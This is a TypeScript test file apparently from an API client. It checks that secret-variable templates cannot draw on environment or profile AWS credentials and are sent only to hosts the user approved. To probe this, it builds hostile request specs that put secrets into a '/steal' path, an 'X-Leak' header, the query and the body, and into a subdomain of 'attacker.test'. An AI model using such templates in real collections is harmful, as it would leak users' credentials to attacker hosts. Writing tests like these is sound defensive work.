import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { invokeOperation } from '../../../shared/ipc/dispatch';
import type { Result } from '../../../shared/ipc/errors';
import { createHostServices } from '../create-handlers';
import type { HostServices } from '../create-handlers';
import { MemoryKeyStore } from '../credentials/key-store';

// Secrets a collection must never be able to send: the user's own AWS credentials.
const PROFILE_SECRET = 'profile/SECRET+victim0123456789abcdefghij';
const ENV_SECRET = 'env/SECRET+victim0123456789abcdefghijklmn';
const STORED_SECRET = 'stored/api+KEY0123456789abcdefghijklmnop';

let server: Server;
let endpoint: string;
let host: string;
const received: string[] = [];
let home: string;
let services: HostServices;
let collection: string;
let appDataDir: string;

beforeAll(async () => {
  server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString('latin1')));
    request.on('end', () => {
      received.push(`${request.url} ${JSON.stringify(request.headers)} ${body}`);
      response.writeHead(200, { 'Content-Type': 'application/json' }).end('{}');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  endpoint = `http://${host}`;
  home = mkdtempSync(join(tmpdir(), 'secret-policy-'));
  collection = join(home, 'collection');
  writeFileSync(
    join(home, 'credentials'),
    `[victim]\naws_access_key_id = AKIDVICTIMPROFILE001\naws_secret_access_key = ${PROFILE_SECRET}\n`,
  );
  process.env.AWS_ACCESS_KEY_ID = 'AKIDVICTIMENVIRON001';
  process.env.AWS_SECRET_ACCESS_KEY = ENV_SECRET;
});

beforeEach(() => {
  received.length = 0;
  appDataDir = mkdtempSync(join(home, 'app-'));
  services = createHostServices({
    mode: 'browser',
    keyStore: new MemoryKeyStore(),
    env: {
      HOME: home,
      AWS_ACCESS_KEY_ID: 'AKIDVICTIMENVIRON001',
      AWS_SECRET_ACCESS_KEY: ENV_SECRET,
      AWS_SHARED_CREDENTIALS_FILE: join(home, 'credentials'),
      AWS_CONFIG_FILE: join(home, 'none'),
    },
    appDataDir,
  });
});

afterAll(async () => {
  delete process.env.AWS_ACCESS_KEY_ID;
  delete process.env.AWS_SECRET_ACCESS_KEY;
  await new Promise((resolve) => server?.close(resolve));
  rmSync(home, { recursive: true, force: true });
});

function call(name: string, input: unknown): Promise<Result<unknown>> {
  return invokeOperation(services.handlers, { name, input, context: undefined });
}

/** A request that puts `{{sk}}` into a header, the path, the query and the body, as a hostile collection would. */
function hostileSpec(credentialId: string, field = 'secretAccessKey') {
  return {
    region: 'us-east-1',
    service: 'execute-api',
    method: 'POST',
    path: '/steal/{{sk}}',
    query: [['k', '{{sk}}']],
    headers: [['X-Leak', '{{sk}}']],
    body: { kind: 'text', text: '{"k":"{{sk}}"}' },
    endpoint,
    credentialId: 'env',
    secretVariables: [{ name: 'sk', credentialId, field }],
    collection,
  };
}

async function storeKey(bindTo?: string): Promise<string> {
  const added = await call('credentials.add', {
    label: 'api key',
    accessKeyId: 'AKIDSTOREDAPIKEY0001',
    secretAccessKey: STORED_SECRET,
    ...(bindTo ? { collection: bindTo } : {}),
  });
  if (!added.ok) throw new Error(added.error.message);
  return (added.value as { id: string }).id;
}

describe('secret variables are filled only from keys stored for the collection', () => {
  it.each([['env'], ['environment'], ['profile:victim'], ['default']])(
    'refuses a secret variable bound to %s and sends nothing',
    async (credentialId) => {
      await call('request.approveSecretHost', { collection, host });
      const result = await call('request.send', {
        requestId: 'r',
        spec: hostileSpec(credentialId),
      });
      expect(result.ok).toBe(false);
      if (result.ok) return;
      expect(result.error.code).toBe('credentials');
      expect(result.error.message).toContain('{{sk}}');
      expect(received).toEqual([]);
      expect(JSON.stringify(result)).not.toContain(PROFILE_SECRET);
    },
  );

  it('refuses a stored key that was not stored for this collection', async () => {
    const id = await storeKey();
    await call('request.approveSecretHost', { collection, host });
    const result = await call('request.send', { requestId: 'r', spec: hostileSpec(id) });
    expect(result.ok ? undefined : result.error.code).toBe('credentials');
    expect(received).toEqual([]);
  });

  it('refuses a key stored for another collection', async () => {
    const id = await storeKey(join(home, 'other'));
    await call('request.approveSecretHost', { collection, host });
    const result = await call('request.send', { requestId: 'r', spec: hostileSpec(id) });
    expect(result.ok).toBe(false);
    expect(received).toEqual([]);
  });

  it('refuses secret variables for a request outside a collection', async () => {
    const id = await storeKey(collection);
    const { collection: _c, ...spec } = hostileSpec(id);
    const result = await call('request.send', { requestId: 'r', spec });
    expect(result.ok).toBe(false);
    expect(received).toEqual([]);
  });
});

describe('secrets go only to hosts the user approved, after seeing every use', () => {
  it('plans every use without values, refuses until approved, then sends', async () => {
    const id = await storeKey(collection);
    const spec = hostileSpec(id);
    const plan = await call('request.secretPlan', spec);
    expect(plan).toEqual({
      ok: true,
      value: {
        collection,
        host,
        approved: false,
        uses: [
          { variable: 'sk', field: 'path' },
          { variable: 'sk', field: 'query "k"' },
          { variable: 'sk', field: 'header "X-Leak"' },
          { variable: 'sk', field: 'body' },
        ],
      },
    });
    const refused = await call('request.send', { requestId: 'r1', spec });
    expect(refused.ok).toBe(false);
    if (!refused.ok) {
      expect(refused.error.code).toBe('credentials');
      expect(refused.error.message).toContain(host);
      expect(refused.error.details?.secretApproval).toMatchObject({ host, approved: false });
    }
    expect(received).toEqual([]);

    await call('request.approveSecretHost', { collection, host });
    const sent = await call('request.send', { requestId: 'r2', spec });
    expect(sent.ok).toBe(true);
    expect(received.join('\n')).toContain(`"x-leak":"${STORED_SECRET}"`);
    expect(JSON.stringify(sent)).not.toContain(STORED_SECRET);
    const grantsFile = readFileSync(join(appDataDir, 'secret-grants.json'), 'utf8');
    expect(grantsFile).toContain(host);
    expect(grantsFile).not.toContain(STORED_SECRET);
  });

  it('does not carry an approval over to another host', async () => {
    const id = await storeKey(collection);
    await call('request.approveSecretHost', { collection, host: 'example.org' });
    const result = await call('request.send', { requestId: 'r', spec: hostileSpec(id) });
    expect(result.ok).toBe(false);
    expect(received).toEqual([]);
  });

  it('refuses a secret variable inside the host name', async () => {
    const id = await storeKey(collection);
    const spec = { ...hostileSpec(id), endpoint: 'http://{{sk}}.attacker.test/' };
    await call('request.approveSecretHost', { collection, host: 'attacker.test' });
    const result = await call('request.secretPlan', spec);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.error.message).toContain('host name');
  });
});
